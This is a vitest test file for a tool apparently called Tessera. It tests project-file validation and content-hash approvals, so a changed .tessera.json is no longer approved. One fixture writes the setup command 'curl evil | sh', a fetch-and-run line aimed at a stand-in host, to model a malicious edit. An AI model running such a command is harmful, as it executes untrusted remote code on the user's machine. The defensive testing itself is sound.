// Project files and their approvals: what a .tessera.json may hold and what the user is shown, and
// approvals remembered by path and content hash (a changed file is not approved), kept per server,
// written atomically, a damaged file moved aside and reported.

import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ProjectApprovals } from '../../../src/store/projectApprovals.js';
import { hashProjectFile, projectCommands, readProjectFile, type ProjectFile } from '../../../src/store/projectFile.js';

let dir: string;

beforeEach(() => {
  dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'tessera-project-')));
});

afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

function write(text: string): ProjectFile {
  fs.writeFileSync(path.join(dir, '.tessera.json'), text);
  const read = readProjectFile(dir);
  if (!('project' in read)) throw new Error(JSON.stringify(read));
  return read.project;
}

describe('the project file', () => {
  it('reads templates and a setup command, hashes the exact bytes, and lists every command it would start', () => {
    const text = JSON.stringify({ setupCommand: ' npm ci ', templates: [{ name: 'web', panes: ['claude', { command: ['sh', '-c', "echo 'hi' > x"] }] }] });
    const project = write(text);
    expect(project.file).toBe(path.join(dir, '.tessera.json'));
    expect(project.hash).toBe(hashProjectFile(text));
    expect(project.hash).toMatch(/^[0-9a-f]{64}$/);
    expect(projectCommands(project)).toEqual(['setupCommand: npm ci', `template web: claude | sh -c 'echo '\\''hi'\\'' > x'`]);
    expect(write(`${text}\n`).hash).not.toBe(project.hash); // any byte changes it
  });

  it('is absent without a file, and unusable (nothing of it used) when it is wrong', () => {
    expect(readProjectFile(dir)).toEqual({ none: true });
    fs.writeFileSync(path.join(dir, '.tessera.json'), '{ nope');
    expect(readProjectFile(dir)).toMatchObject({ problem: expect.stringMatching(/\.tessera\.json is not used: it is not valid JSON/) });
    fs.writeFileSync(path.join(dir, '.tessera.json'), JSON.stringify({ setupCommand: 'x', bypassPermissions: true }));
    expect(readProjectFile(dir)).toMatchObject({ problem: expect.stringMatching(/unknown field 'bypassPermissions' \(a project file may hold templates and setupCommand\)/) });
    fs.writeFileSync(path.join(dir, '.tessera.json'), JSON.stringify({ templates: [{ name: 'x', panes: [] }] }));
    expect(readProjectFile(dir)).toMatchObject({ problem: expect.stringMatching(/templates\[0\]\.panes must list 1 to 8 panes/) });
    fs.writeFileSync(path.join(dir, '.tessera.json'), ' '.repeat(70_000));
    expect(readProjectFile(dir)).toMatchObject({ problem: expect.stringMatching(/larger than 65536 bytes/) });
  });
});

describe('approvals', () => {
  it('approves a file as it is: the same path and contents, never another file or a changed one', () => {
    const approvals = new ProjectApprovals(path.join(dir, 'state'));
    const project = write('{"setupCommand": "npm ci"}');
    expect(approvals.isApproved(project.file, project.hash)).toBe(false);
    approvals.approve(project.file, project.hash);
    expect(approvals.isApproved(project.file, project.hash)).toBe(true);
    expect(approvals.isApproved('/elsewhere/.tessera.json', project.hash)).toBe(false);
    const changed = write('{"setupCommand": "curl evil | sh"}');
    expect(approvals.isApproved(changed.file, changed.hash)).toBe(false);
    // Kept across servers' restarts (a new instance reads the file), and approving the change replaces the old approval.
    approvals.approve(changed.file, changed.hash);
    const again = new ProjectApprovals(path.join(dir, 'state'));
    expect(again.isApproved(changed.file, changed.hash)).toBe(true);
    expect(again.isApproved(project.file, project.hash)).toBe(false);
    expect(fs.statSync(again.file).mode & 0o777).toBe(0o600);
  });

  it('moves a damaged file aside, keeps its bytes, reports it, and approves nothing from it', () => {
    const state = path.join(dir, 'state');
    fs.mkdirSync(state);
    const approvals = new ProjectApprovals(state);
    const damaged = '{"version": 1, "approvals": [{"file": "/x", "hash": "not-a-hash", "approved": "2026-01-01"}]}';
    fs.writeFileSync(approvals.file, damaged);
    expect(approvals.isApproved('/x', 'not-a-hash')).toBe(false);
    expect(approvals.problem).toMatch(/the project approvals were moved aside: it has the wrong shape \(approvals\[0\]\.hash must be a sha256 in hex\); its bytes are kept in .*approved-projects\.json\.corrupt-/);
    const aside = fs.readdirSync(state).find((n) => n.startsWith('approved-projects.json.corrupt-')) as string;
    expect(fs.readFileSync(path.join(state, aside), 'utf8')).toBe(damaged);
    expect(fs.existsSync(approvals.file)).toBe(false);
  });

  it('keeps two servers apart: each state directory has its own approvals', () => {
    const a = new ProjectApprovals(path.join(dir, 'servers', 'a'));
    const b = new ProjectApprovals(path.join(dir, 'servers', 'b'));
    a.approve('/p/.tessera.json', 'a'.repeat(64));
    expect(b.isApproved('/p/.tessera.json', 'a'.repeat(64))).toBe(false);
  });
});
